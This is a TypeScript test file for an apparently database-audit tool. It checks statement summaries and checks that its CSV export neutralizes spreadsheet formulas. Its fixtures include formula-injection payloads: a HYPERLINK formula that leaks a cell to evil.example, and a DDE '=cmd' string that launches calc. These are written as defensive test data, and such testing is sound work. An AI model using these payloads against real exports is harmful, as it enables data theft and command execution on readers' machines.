/**
 * summary.csv: statements paired from their events, and the CSV read back by Python's csv
 * module (an oracle that is not our writer).
 */
import { execFileSync } from 'node:child_process';
import { describe, expect, test } from 'vitest';
import type { AuditEvent } from '../../src/audit/event.js';
import { SUMMARY_CSV_COLUMNS, SUMMARY_CSV_HEADER, StatementSummarizer, summaryCsvLine, type StatementRow } from '../../src/audit/summary.js';
import { EventLog, actor } from './event-log.js';

const alice = actor('alice', ['analysts']);
const bob = actor('bob', ['dba', 'oncall']);
const svc = actor('etl', ['etl'], null);

function summarize(events: AuditEvent[]): { rows: StatementRow[]; s: StatementSummarizer } {
  const s = new StatementSummarizer();
  const rows = events.flatMap((e) => s.add(e));
  return { rows: [...rows, ...s.finish()], s };
}

/** Python's csv module parses what we wrote: a list of records, each a list of fields. */
function pythonCsv(text: string): string[][] {
  const out = execFileSync('python3', ['-c', 'import csv,io,json,sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))'], { input: text, encoding: 'utf8' });
  return JSON.parse(out) as string[][];
}

describe('StatementSummarizer', () => {
  test('pairs each query.start with its query.end by query id across interleaved sessions', () => {
    const log = new EventLog();
    const s1 = log.session(alice);
    const s2 = log.session(bob, 'ledger');
    const s3 = log.session(svc);
    const q1 = log.start(alice, s1, 'SELECT * FROM accounts WHERE id = $1', { protocol: 'extended', parameters: ['42'] });
    const q2 = log.start(bob, s2, 'UPDATE t SET x = 1', {}, 'ledger');
    const q3 = log.start(svc, s3, 'SELECT 1');
    const e2 = log.end(bob, s2, q2, { command_tags: ['UPDATE 3'], rows: 3, bytes: 0, duration_ms: 7 }, 'ledger');
    log.add('approval.requested', alice, { request: 'r-0000aaaa', kind: 'grant', statement: null });
    const e1 = log.end(alice, s1, q1, { rows: 1, bytes: 120, duration_ms: 4 });
    const e3 = log.end(svc, s3, q3, { rows: 1, bytes: 5, duration_ms: 1 });
    const { rows, s } = summarize(log.events);
    expect(rows.map((r) => r.query_id)).toEqual([q2, q1, q3]);
    const [r2, r1, r3] = rows;
    expect(r1).toMatchObject({
      user: 'alice@bank.example', groups: ['analysts'], connection: 'bank', session_id: s1, statement: 'SELECT * FROM accounts WHERE id = $1',
      parameters: ['42'], outcome: 'ok', rows: 1, bytes: 120, duration_ms: 4, masked_columns: [], approval_id: null, approvers: [], end_seq: e1.seq,
    });
    expect(r1!.start_seq).toBe(log.events.find((e) => e.data['query_id'] === q1 && e.type === 'query.start')!.seq);
    expect(r1!.time).toBe(log.events[r1!.start_seq - 1]!.time);
    expect(r2).toMatchObject({ user: 'bob@bank.example', groups: ['dba', 'oncall'], connection: 'ledger', session_id: s2, rows: 3, bytes: 0, end_seq: e2.seq });
    // No email: the subject names the user.
    expect(r3).toMatchObject({ user: 'apikey:etl', end_seq: e3.seq });
    expect(s.unmatchedEnds).toBe(0);
  });

  test('a simple Query of several statements is one row; its texts joined when the event has no whole text', () => {
    const log = new EventLog();
    const sid = log.session(alice);
    const q = log.start(alice, sid, 'SELECT 1; SELECT 2', { statements: ['SELECT 1', 'SELECT 2'] });
    log.end(alice, sid, q, { command_tags: ['SELECT 1', 'SELECT 1'], rows: 2 });
    const q2 = log.start(alice, sid, '', { statements: ['BEGIN', 'COMMIT'] });
    log.end(alice, sid, q2, { command_tags: ['BEGIN', 'COMMIT'], rows: 0 });
    const { rows } = summarize(log.events);
    expect(rows.map((r) => [r.statement, r.rows])).toEqual([['SELECT 1; SELECT 2', 2], ['BEGIN; COMMIT', 0]]);
  });

  test('refused: the outcome and the error the client got; a Parse on its own is marked', () => {
    const log = new EventLog();
    const sid = log.session(alice);
    const message = 'hoop: statement refused: analysts may not write';
    const q = log.start(alice, sid, 'DELETE FROM accounts', { decision: { action: 'refuse', code: '42501', message, access: { rule: 'read-only', reason: 'write' } } });
    log.end(alice, sid, q, { outcome: 'refused', error: { code: '42501', message }, command_tags: [], rows: 0, bytes: 0 });
    const p = log.start(alice, sid, 'SELECT $1::int', { protocol: 'extended', phase: 'parse', statement_name: 's1' });
    log.end(alice, sid, p, { rows: 0, bytes: 0 });
    const { rows } = summarize(log.events);
    expect(rows[0]).toMatchObject({ outcome: 'refused', error: `42501: ${message}`, approval_id: null, phase: null });
    expect(rows[1]).toMatchObject({ outcome: 'ok', phase: 'parse', error: null });
  });

  test('held then approved: the request and its approvers, from the decision or from the decisions in the range', () => {
    const log = new EventLog();
    const sid = log.session(alice);
    log.add('approval.requested', alice, { request: 'r-11111111', kind: 'statement', statement: 'SELECT * FROM customers', rule: 'full-export', min_approvals: 2 }, { session: sid });
    log.add('approval.decided', bob, { request: 'r-11111111', decision: 'approve', comment: null, requester: 'apikey:alice' }, { session: sid });
    // A second approve by bob that the store refused (already decided) does not count twice, nor does it count at all.
    log.add('approval.decided', actor('dave', ['dba']), { request: 'r-11111111', decision: 'approve', comment: null, refused: 'already_decided', status: 'pending' }, { session: sid });
    log.add('approval.decided', actor('erin', ['dba']), { request: 'r-11111111', decision: 'approve', comment: 'ok', requester: 'apikey:alice' }, { session: sid });
    log.add('approval.used', alice, { request: 'r-11111111', requester: 'apikey:alice', approvers: ['apikey:bob', 'apikey:erin'] }, { session: sid });
    const q = log.start(alice, sid, 'SELECT * FROM customers', {
      decision: { action: 'run', approval: { request: 'r-11111111', rule: 'full-export', outcome: 'approved', waited_ms: 1200, approvers: ['apikey:bob', 'apikey:erin'] } },
    });
    log.end(alice, sid, q, { rows: 100, bytes: 4000 });
    // A decision recorded without its approvers (as before they were recorded there): taken from the decisions seen.
    log.add('approval.requested', alice, { request: 'r-22222222', kind: 'statement', statement: 'SELECT 2', rule: 'r' }, { session: sid });
    log.add('approval.decided', bob, { request: 'r-22222222', decision: 'approve', comment: null, requester: 'apikey:alice' }, { session: sid });
    log.add('approval.decided', actor('dave', ['dba']), { request: 'r-33333333', decision: 'approve', comment: null }, { session: sid });
    const q2 = log.start(alice, sid, 'SELECT 2', { decision: { action: 'run', approval: { request: 'r-22222222', rule: 'r' } } });
    log.end(alice, sid, q2);
    // Denied: the refusal names the request (decision.access), nobody approved.
    log.add('approval.decided', bob, { request: 'r-44444444', decision: 'deny', comment: 'no', requester: 'apikey:alice' }, { session: sid });
    const q3 = log.start(alice, sid, 'SELECT 3', { decision: { action: 'refuse', code: '42501', message: 'denied', access: { request: 'r-44444444', outcome: 'denied', approvers: [], denied_by: 'apikey:bob' } } });
    log.end(alice, sid, q3, { outcome: 'refused', rows: 0, bytes: 0 });
    const { rows } = summarize(log.events);
    expect(rows.map((r) => [r.approval_id, r.approvers, r.outcome])).toEqual([
      ['r-11111111', ['apikey:bob', 'apikey:erin'], 'ok'],
      ['r-22222222', ['apikey:bob'], 'ok'],
      ['r-44444444', [], 'refused'],
    ]);
  });

  test('a statement without its query.end in the range is unknown, never ok; an end without its start is counted', () => {
    const log = new EventLog();
    const sid = log.session(alice);
    log.end(alice, sid, '00000000-0000-4000-8000-000000000000');
    const open = log.start(alice, sid, 'SELECT count(*) FROM transactions'); // no query.end in the range
    const done = log.ran(alice, sid, 'SELECT 1');
    const s = new StatementSummarizer();
    const during = log.events.flatMap((e) => s.add(e));
    expect(during.map((r) => r.query_id)).toEqual([done]);
    const left = s.finish();
    expect(left).toHaveLength(1);
    expect(left[0]).toMatchObject({ query_id: open, outcome: 'unknown', rows: null, bytes: null, duration_ms: null, end_seq: null });
    expect(s.unmatchedEnds).toBe(1);
    expect(s.finish()).toEqual([]);
  });

  test('masked values by label, with their counts', () => {
    const log = new EventLog();
    const sid = log.session(alice);
    log.ran(alice, sid, 'SELECT ssn, email FROM customers', { rows: 5, masked: { 'public.customers.ssn (ssn, partial)': 5, 'detector:email': 3 } });
    const { rows } = summarize(log.events);
    expect([...rows[0]!.masked_columns].sort()).toEqual(['detector:email', 'public.customers.ssn (ssn, partial)']);
    expect(rows[0]!.masked_counts).toEqual({ 'public.customers.ssn (ssn, partial)': 5, 'detector:email': 3 });
  });
});

describe('summary.csv', () => {
  const hostile = [
    'SELECT a, b FROM "t,1"',
    'SELECT \'he said "hi"\'',
    'SELECT 1;\r\nSELECT 2;\nSELECT 3;\rSELECT 4',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+1+1', '-2+3', '@SUM(A1:A9)', '\tSELECT 1', '\rSELECT 1',
    'SELECT \'ünïcødé 🎉\', \'\\x00\'',
  ];

  test('RFC 4180 with CRLF line ends, read back field for field by Python csv; formulas are neutralized with a leading quote', () => {
    const log = new EventLog();
    const evil = actor('=cmd|\' /C calc\'!A0', ['g,1', 'g"2']);
    const sid = log.session(evil);
    for (const text of hostile) log.ran(evil, sid, text, { rows: 2, bytes: 33, masked: { 'a,b': 1, '"q"': 2 } });
    const withParams = log.start(evil, sid, 'SELECT $1, $2', { protocol: 'extended', parameters: ['x,"y"\n', null] });
    log.end(evil, sid, withParams, { outcome: 'error', error: { code: '22P02', message: 'invalid input, "x"' }, rows: 0, bytes: 0 });
    const { rows } = summarize(log.events);
    const text = SUMMARY_CSV_HEADER + rows.map(summaryCsvLine).join('');
    // Every record ends with CRLF; no bare LF ends a record (LFs inside are quoted).
    expect(text.endsWith('\r\n')).toBe(true);
    expect(SUMMARY_CSV_HEADER).toBe(`${SUMMARY_CSV_COLUMNS.join(',')}\r\n`);
    const parsed = pythonCsv(text);
    expect(parsed[0]).toEqual([...SUMMARY_CSV_COLUMNS]);
    expect(parsed).toHaveLength(1 + rows.length);
    const col = (name: (typeof SUMMARY_CSV_COLUMNS)[number]) => SUMMARY_CSV_COLUMNS.indexOf(name);
    const records = parsed.slice(1);
    const formula = /^[=+\-@\t\r]/;
    records.forEach((rec, i) => {
      expect(rec).toHaveLength(SUMMARY_CSV_COLUMNS.length);
      const row = rows[i]!;
      const stmt = rec[col('statement')]!;
      expect(stmt).toBe(formula.test(row.statement) ? `'${row.statement}` : row.statement);
      expect(rec[col('user')]).toBe(`'${row.user}`);
      expect(JSON.parse(rec[col('groups')]!)).toEqual(['g,1', 'g"2']);
      expect(rec[col('query_id')]).toBe(row.query_id);
      expect(Number(rec[col('start_seq')])).toBe(row.start_seq);
      expect(Number(rec[col('end_seq')])).toBe(row.end_seq);
      expect(rec[col('time')]).toBe(row.time);
    });
    const last = records.at(-1)!;
    expect(JSON.parse(last[col('parameters')]!)).toEqual(['x,"y"\n', null]);
    expect(last[col('error')]).toBe('22P02: invalid input, "x"');
    expect(last[col('outcome')]).toBe('error');
    expect(last[col('masked_columns')]).toBe('');
    expect(JSON.parse(records[0]![col('masked_columns')]!)).toEqual({ 'a,b': 1, '"q"': 2 });
    expect(records[0]![col('rows')]).toBe('2');
    expect(records[0]![col('bytes')]).toBe('33');
    // The neutralized cells, exactly.
    expect(records.slice(3, 9).map((r) => r[col('statement')])).toEqual(["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\tSELECT 1", "'\rSELECT 1"]);
  });
});
